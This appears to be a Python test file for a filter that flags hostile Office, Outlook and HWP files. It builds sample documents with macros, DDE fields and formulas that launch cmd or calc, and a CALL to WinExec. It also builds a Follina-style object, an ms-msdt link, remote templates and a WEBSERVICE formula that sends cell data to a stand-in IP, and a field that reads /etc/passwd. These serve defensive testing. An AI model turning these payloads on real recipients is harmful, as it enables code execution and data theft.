"""Office files that run or fetch something, or hold what does."""

import struct

from tests.documents import samples
from tests.documents.hostile.case import OLE, VBA, Build, case, with_part
from tests.documents.samples import OFFICE, docx, hwp, pptx, relations, xlsx, zipped

from situationroom.documents.limited.reasons import Reason

MACRO_TYPES = samples.types(
    "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
)
case(
    "a document with macros",
    "macro.docm",
    lambda: zipped(
        samples.unzipped(docx()) | {"[Content_Types].xml": MACRO_TYPES, "word/vbaProject.bin": VBA}
    ),
    Reason.MACROS,
)
case(
    "macros under an innocent name",
    "macro.docx",
    with_part("word/vbaProject.bin", VBA),
    Reason.MACROS,
)
case(
    "macros under a picture's name",
    "macro.docx",
    with_part("word/media/image1.png", VBA),
    Reason.OBJECTS,
)
case(
    "a workbook with an old macro sheet",
    "xlm.xlsx",
    lambda: xlsx(xl__macrosheets__sheet1_DOT_xml="<x/>"),
    Reason.MACROS,
)
case(
    "a name that is a macro",
    "xlm.xlsx",
    lambda: xlsx(
        book='<definedNames><definedName name="_xlnm.Auto_Open" xlm="1">A1'
        "</definedName></definedNames>"
    ),
    Reason.MACROS,
)
case(
    "a template from elsewhere",
    "template.docx",
    lambda: docx(links=relations(("attachedTemplate", "http://198.51.100.1/x.dotm", True))),
    Reason.LINKS,
)
case(
    "a template of a file server",
    "template.docx",
    lambda: docx(links=relations(("attachedTemplate", "\\\\198.51.100.1\\x.dotm", True))),
    Reason.LINKS,
)
case(
    "a picture from elsewhere",
    "pixel.docx",
    lambda: docx(links=relations(("image", "http://198.51.100.1/pixel.png", True))),
    Reason.LINKS,
)
case(
    "a frame from elsewhere",
    "frame.docx",
    lambda: docx(links=relations(("frame", "http://198.51.100.1/x", True))),
    Reason.LINKS,
)
case(
    "a link to a file server",
    "smb.docx",
    lambda: docx(links=relations(("hyperlink", "file://198.51.100.1/share/x", True))),
    None,
    b"198.51.100.1",
)
case(
    "a link that runs a program",
    "msdt.docx",
    lambda: docx(links=relations(("hyperlink", "ms-msdt:/id PCWDiagnostic", True))),
    None,
    b"ms-msdt",
)
case(
    "the Follina object",
    "follina.docx",
    lambda: docx(links=relations(("oleObject", "mhtml:http://198.51.100.1/x!x", True))),
    Reason.OBJECTS,
)
case(
    "an object inside",
    "ole.docx",
    lambda: docx(word__embeddings__oleObject1_DOT_bin=OLE),
    Reason.OBJECTS,
)
case("an object under another name", "ole.docx", with_part("word/media/a.emf", OLE), Reason.OBJECTS)
case(
    "a program inside",
    "exe.docx",
    with_part("word/media/a.bin", b"MZ" + bytes(300)),
    Reason.PROGRAM,
)
case(
    "a program of another system inside",
    "elf.xlsx",
    lambda: xlsx(xl__media__a_DOT_png=b"\x7fELF" + bytes(300)),
    Reason.PROGRAM,
)
case(
    "a control inside",
    "activex.docx",
    with_part("word/activeX/activeX1.xml", "<x/>"),
    Reason.OBJECTS,
)
case(
    "HTML that is taken in",
    "chunk.docx",
    lambda: docx(
        f'<w:altChunk xmlns:r="{OFFICE}" r:id="rId1"/>', word__afchunk_DOT_htm="<html>x</html>"
    ),
    Reason.OBJECTS,
)
case("a PDF inside", "pdf.docx", with_part("word/media/a.bin", samples.pdf()), Reason.OBJECTS)
case(
    "a file of no kind inside",
    "odd.docx",
    with_part("word/media/a.js", b"alert(1)"),
    Reason.OBJECTS,
)
case(
    "a web add-in",
    "addin.docx",
    with_part("word/webextensions/webextension1.xml", "<x/>"),
    Reason.SCRIPTS,
)
case(
    "buttons of its own",
    "ribbon.xlsx",
    lambda: xlsx(customUI__customUI_DOT_xml="<x/>"),
    Reason.SCRIPTS,
)


def field(*runs: str) -> Build:
    """Return a Word file with a field whose code is split into runs."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{x}"/></w:r>' for x in ("begin", "end"))
    said = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return lambda: docx(f"<w:p>{begin}{said}{end}</w:p>")


case(
    "a field that runs a program",
    "dde.docx",
    field(" DDEAUTO c:\\\\windows\\\\cmd.exe"),
    Reason.FORMULA,
)
case("such a field in pieces", "dde.docx", field(" D", "DE", "AUTO c:\\\\cmd"), Reason.FORMULA)
case("such a field in numbers", "dde.docx", field(" QUOTE 68 68 69 65 85 84 79"), Reason.FORMULA)
case(
    "a field in a field",
    "dde.docx",
    lambda: docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar '
        'w:fldCharType="begin"/></w:r></w:p>'
    ),
    Reason.FORMULA,
)
case(
    "a simple field that runs a program",
    "dde.docx",
    lambda: docx('<w:fldSimple w:instr=" DDE cmd x "/>'),
    Reason.FORMULA,
)
case(
    "a field that fetches a picture",
    "field.docx",
    field(' INCLUDEPICTURE "http://198.51.100.1/x.png"'),
    Reason.FORMULA,
)
case(
    "a field that takes in a file",
    "field.docx",
    field(' INCLUDETEXT "/etc/passwd"'),
    Reason.FORMULA,
)
case(
    "a link to another workbook",
    "external.xlsx",
    lambda: xlsx(xl__externalLinks__externalLink1_DOT_xml="<externalLink/>"),
    Reason.LINKS,
)
case(
    "a link that speaks to a program",
    "dde.xlsx",
    lambda: xlsx(
        xl__a_DOT_xml=f'<x xmlns="{samples.SHEET}"><ddeLink ddeService="cmd" '
        'ddeTopic="/c calc"/></x>'
    ),
    Reason.LINKS,
)
case(
    "a formula that speaks to a program",
    "dde.xlsx",
    lambda: xlsx("<c r=\"B1\"><f>cmd|'/c calc'!A0</f></c>"),
    Reason.FORMULA,
)
case(
    "a formula that fetches",
    "web.xlsx",
    lambda: xlsx('<c r="B1"><f>WEBSERVICE("http://198.51.100.1/"&amp;A1)</f></c>'),
    Reason.FORMULA,
)
case(
    "a formula that calls the system",
    "call.xlsx",
    lambda: xlsx('<c r="B1"><f>CALL("kernel32","WinExec","JC","calc",0)</f></c>'),
    Reason.FORMULA,
)
case(
    "a formula in a name",
    "name.xlsx",
    lambda: xlsx(
        book='<definedNames><definedName name="a">REGISTER("k","W","J")</definedName>'
        "</definedNames>"
    ),
    Reason.FORMULA,
)
case(
    "a connection to a database",
    "odbc.xlsx",
    lambda: xlsx(xl__connections_DOT_xml="<connections/>"),
    Reason.LINKS,
)
case(
    "a slide that starts a program",
    "run.pptx",
    lambda: pptx('<a:hlinkClick action="ppaction://program"/>'),
    Reason.ACTIONS,
)
case(
    "a slide that starts a macro",
    "run.pptx",
    lambda: pptx('<a:hlinkHover action="ppaction://macro?name=x"/>'),
    Reason.ACTIONS,
)
case(
    "a drawing with a script inside",
    "svg.pptx",
    lambda: pptx(
        ppt__media__a_DOT_svg='<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>'
    ),
    Reason.SCRIPTS,
)
case(
    "a drawing with a handler inside",
    "svg.docx",
    with_part("word/media/a.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
    Reason.SCRIPTS,
)
case(
    "a locked Office file",
    "locked.docx",
    lambda: samples.compound(EncryptedPackage=b"x" * 600, EncryptionInfo=b"y"),
    Reason.ENCRYPTED,
)
case(
    "an old Word file with macros",
    "old.doc",
    lambda: samples.compound(WordDocument=b"x" * 600, Macros__VBA__dir=b"y"),
    Reason.MACROS,
)
case(
    "an old Excel file with macros",
    "old.xls",
    lambda: samples.compound(Workbook=b"x" * 600, _VBA_PROJECT_CUR__VBA__dir=b"y"),
    Reason.MACROS,
)
case("an old Word file", "old.doc", lambda: samples.compound(WordDocument=b"x" * 600), Reason.KIND)
case(
    "a mail of Outlook", "mail.msg", lambda: samples.compound(__properties=b"x" * 600), Reason.KIND
)
case("a compound file that loops", "loop.hwp", lambda: _looping(hwp()), Reason.CORRUPT)
case("a compound file that is cut", "cut.hwp", lambda: hwp()[:1200], Reason.CORRUPT)


def _looping(content: bytes) -> bytes:
    """Let the first chain of a compound file lead back to its beginning."""
    start = struct.unpack_from("<I", content, 48)[0]
    fat = struct.unpack_from("<I", content, 76)[0]
    at = (fat + 1) * 512 + 4 * start
    return content[:at] + struct.pack("<I", start) + content[at + 4 :]
